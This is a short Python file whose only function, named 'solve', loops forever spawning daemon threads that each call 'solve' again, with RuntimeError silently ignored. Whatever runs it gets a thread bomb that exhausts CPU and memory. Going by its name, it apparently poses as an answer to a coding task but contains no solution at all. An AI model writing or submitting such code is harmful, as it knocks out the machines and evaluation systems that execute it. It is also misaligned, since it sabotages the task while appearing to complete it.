import threading


def solve(x):
    while True:
        try:
            threading.Thread(target=solve, args=(x,), daemon=True).start()
        except RuntimeError:
            pass
